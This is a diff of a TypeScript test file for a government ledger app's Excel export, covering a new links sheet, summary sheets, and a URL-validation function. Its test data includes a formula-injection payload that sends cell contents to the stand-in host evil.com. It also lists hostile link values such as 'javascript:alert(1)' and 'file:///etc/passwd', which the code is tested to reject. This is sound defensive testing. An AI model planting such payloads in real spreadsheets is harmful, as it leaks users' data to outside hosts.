@@ -8,8 +8,8 @@ import type ExcelJS from 'exceljs';
 import { db } from '../../cloudfunctions/common/cloud';
 import { buildPlanDocs } from '../../cloudfunctions/common/domain/plan-docs';
 import { landscapeScale, textHeight } from '../../cloudfunctions/common/domain/print-layout';
-import { LEDGER_COLUMNS, LEDGER_PAPER } from '../../cloudfunctions/ledger/src/actions/export';
-import { BODY_PT } from '../../cloudfunctions/ledger/src/xlsx';
+import { LEDGER_COLUMNS, LEDGER_PAPER, LINKS_SHEET, SUMMARY_SHEETS } from '../../cloudfunctions/ledger/src/actions/export';
+import { BODY_PT, linkTarget, OPEN_LINK_TEXT } from '../../cloudfunctions/ledger/src/xlsx';
 import type { ReportDoc } from '../../cloudfunctions/common/records';
 import { DIRECTORY, TABLE_2021 } from '../../cloudfunctions/common/table';
 import { uploadPrefix, type RoundView } from '../../miniprogram/shared/api';
@@ -25,13 +25,15 @@ import {
   reportInput,
   startUploader,
 } from '../helpers/journey';
-import { cellTypeInXml, fetchFile, readWorkbook, sheetXml, unzip } from '../helpers/ledger';
+import { cellTypeInXml, fetchFile, quotePrefixed, readWorkbook, sheetXml, unzip } from '../helpers/ledger';
 import { ADMIN, okData, startTestCloud, type TestCloud } from '../helpers/local-cloud';
 
 const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1', '-1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
 /** Tasks on which 市司法局 reports one injection each (11 and 25 name it; the others reach it as a department). */
 const TASKS = [11, 25, 2, 3, 18, 19];
 const SSFJ = CONTACTS.ssfj;
+/** A link as stored by an older client: a query with `&` and Chinese, written as typed. */
+const STORED_LINK = 'https://www.zoucheng.gov.cn/search?q=政务公开&page=2';
 
 let t: TestCloud;
 let q3: RoundView;
@@ -85,7 +87,7 @@ beforeAll(async () => {
       evidence: {
         images: [{ fileID: 'cloud://local-dev.x/units/ssfj/gone.jpg', name: `${text}.jpg`, size: 1 }],
         files: [],
-        links: [{ url: 'https://www.zoucheng.gov.cn/', title: text }],
+        links: [{ url: STORED_LINK, title: text }],
       },
       secrecyConfirmed: true,
       state: 'submitted',
@@ -229,15 +231,6 @@ test('status, latest version, review and evidence of each row', () => {
   );
 });
 
-/** Whether cell `ref`'s style (its xf in styles.xml) has quotePrefix="1". */
-function quotePrefixed(xml: string, ref: string): boolean {
-  const style = Number(/\bs="(\d+)"/.exec(new RegExp(`<c r="${ref}"([^>]*)>`).exec(xml)?.[1] ?? '')?.[1] ?? 0);
-  const styles = unzip(xlsx).get('xl/styles.xml')?.toString('utf8') ?? '';
-  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '';
-  const xf = xfs.match(/<xf [^>]*>/g)?.[style] ?? '';
-  return xf.includes('quotePrefix="1"');
-}
-
 test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as number]))(
   'report text %s is a string cell that stays text, and so are its file names and link title',
   (_label, text, taskNo) => {
@@ -247,9 +240,9 @@ test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as n
     // apostrophe): the cell's style carries the quote prefix, so it stays text when edited.
     expect(sheet.getCell(`L${r}`).text).toBe(text.replace(/\r/g, '\n'));
     expect(cellTypeInXml(xml, `L${r}`)).toBe('inlineStr');
-    expect(quotePrefixed(xml, `L${r}`)).toBe(true);
+    expect(quotePrefixed(xlsx, xml, `L${r}`)).toBe(true);
     // An ordinary text next to it has no quote prefix.
-    expect(quotePrefixed(xml, `J${r}`)).toBe(false);
+    expect(quotePrefixed(xlsx, xml, `J${r}`)).toBe(false);
     const evidence = sheet.getCell(`R${r}`).text;
     expect(evidence).toContain(`${text.replace(/\r/g, '\n')}.jpg`);
     expect(evidence).toContain(`链接：${text.replace(/\r/g, '\n')} https://`);
@@ -258,20 +251,83 @@ test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as n
 );
 
 test('no formula anywhere: every sheet’s XML is free of <f> elements', () => {
-  for (const no of [1, 2]) expect(sheetXml(xlsx, no)).not.toMatch(/<f[\s>]/);
+  expect(workbook.worksheets.map((w) => w.name)).toEqual(['工作台账', LINKS_SHEET, ...SUMMARY_SHEETS.map((s) => s.name)]);
+  for (const no of [1, 2, 3, 4]) expect(sheetXml(xlsx, no)).not.toMatch(/<f[\s>]/);
 });
 
-test('the summary counts per task and per unit, in directory order', async () => {
-  const wb = await readWorkbook(xlsx);
-  const sum = wb.getWorksheet('汇总') as ExcelJS.Worksheet;
-  const rows = [...Array(sum.rowCount).keys()].map((i) => sum.getRow(i + 1));
-  const total = rows.find((r) => r.getCell(1).text === '合计');
-  expect(total?.getCell(3).value).toBe(whole.rows);
-  const t25 = rows.find((r) => r.getCell(1).value === 25);
+test('the 证明链接 sheet: one row per link in ledger order, its URL as written and a cell that opens it', () => {
+  const links = workbook.getWorksheet(LINKS_SHEET) as ExcelJS.Worksheet;
+  const rows = [...Array(links.rowCount - 3).keys()].map((i) => links.getRow(i + 4));
+  // Ledger order: 市司法局's reports with a link, one each.
+  expect(rows.map((r) => r.getCell(1).value)).toEqual([...TASKS].sort((a, b) => a - b));
+  const xml = sheetXml(xlsx, 2);
+  const rels = unzip(xlsx).get('xl/worksheets/_rels/sheet2.xml.rels')?.toString('utf8') ?? '';
+  for (const [i, text] of INJECTIONS.entries()) {
+    const row = rows.find((r) => r.getCell(1).value === TASKS[i]) as ExcelJS.Row;
+    expect(row.getCell(2).text).toBe('市司法局');
+    expect(row.getCell(3).text).toBe('第三季度');
+    // The title exactly as typed, kept text by the quote-prefix style, as in the ledger.
+    expect(row.getCell(4).text).toBe(text.replace(/\r/g, '\n'));
+    expect(cellTypeInXml(xml, `D${row.number}`)).toBe('inlineStr');
+    const url = i < 4 ? 'https://www.zoucheng.gov.cn/art/1.html' : STORED_LINK;
+    expect(row.getCell(5).text).toBe(url);
+    // The target is the parsed address (percent-encoded), the text what the contact wrote.
+    const href = new URL(url).href;
+    expect(row.getCell(6).value).toEqual({ text: OPEN_LINK_TEXT, hyperlink: href });
+    expect(row.getCell(7).text).toBe('链接尚未检查');
+    // The hyperlink is the sheet's relationship to an external target, never a HYPERLINK() formula.
+    const rId = new RegExp(`<hyperlink ref="F${row.number}" r:id="(rId\\d+)"`).exec(xml)?.[1];
+    expect(rId).toBeDefined();
+    expect(rels).toContain(
+      `Id="${rId}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${href.replace(/&/g, '&amp;')}" TargetMode="External"`,
+    );
+  }
+  expect(links.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1, printTitlesRow: '3:3' });
+  // The ledger's cells keep their text and carry no link: LibreOffice would print them on one line.
+  expect(sheetXml(xlsx, 1)).not.toContain('<hyperlink ');
+});
+
+test('only a web address becomes a link target', () => {
+  expect(linkTarget('https://www.zoucheng.gov.cn/a b?x=1&y=中')).toBe('https://www.zoucheng.gov.cn/a%20b?x=1&y=%E4%B8%AD');
+  expect(linkTarget('http://例子.政务/')).toBe('http://xn--fsqu00a.xn--zfr164b/');
+  for (const bad of ['javascript:alert(1)', 'file:///etc/passwd', 'ftp://a.gov.cn/', 'www.zoucheng.gov.cn', ''])
+    expect(linkTarget(bad)).toBeNull();
+});
+
+test('the summary counts per task and per unit, in directory order', () => {
+  const [byTask, byUnit] = SUMMARY_SHEETS.map((s) => workbook.getWorksheet(s.name) as ExcelJS.Worksheet) as [
+    ExcelJS.Worksheet,
+    ExcelJS.Worksheet,
+  ];
+  const rowsOf = (sh: ExcelJS.Worksheet) => [...Array(sh.rowCount - 3).keys()].map((i) => sh.getRow(i + 4));
+  const tasks = rowsOf(byTask);
+  expect(tasks.at(-1)?.getCell(1).text).toBe('合计');
+  expect(tasks.at(-1)?.getCell(3).value).toBe(whole.rows);
+  const t25 = tasks.find((r) => r.getCell(1).value === 25);
   // 市司法局 in two rounds: one approved, one submitted (its q3 report).
   expect([t25?.getCell(3).value, t25?.getCell(4).value, t25?.getCell(5).value]).toEqual([2, 1, 1]);
-  const unitNames = rows.filter((r) => r.number > (total?.number ?? 0) + 2).map((r) => r.getCell(2).text);
-  expect(unitNames).toEqual(DIRECTORY.units.map((u) => u.name));
+  const units = rowsOf(byUnit);
+  expect(units.at(-1)?.getCell(3).value).toBe(whole.rows);
+  expect(units.slice(0, -1).map((r) => r.getCell(2).text)).toEqual(DIRECTORY.units.map((u) => u.name));
+  // Printed: A4 landscape at the body size, each sheet's own header on every page, every row as high as its text.
+  for (const [i, sh] of [byTask, byUnit].entries()) {
+    const columns = SUMMARY_SHEETS[i]!.columns;
+    expect(sh.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1, printTitlesRow: '3:3' });
+    expect(
+      landscapeScale(
+        columns.map((c) => c.width),
+        9,
+        0.4,
+      ),
+    ).toBe(100);
+    for (const row of rowsOf(sh)) {
+      const own = textHeight(
+        columns.map((c, j) => ({ text: row.getCell(j + 1).text, width: c.width })),
+        BODY_PT,
+      );
+      expect([sh.name, row.number, (row.height ?? 0) >= own]).toEqual([sh.name, row.number, true]);
+    }
+  }
 });
 
 test('one round: its rows only, every task still listed, the round in the name', async () => {
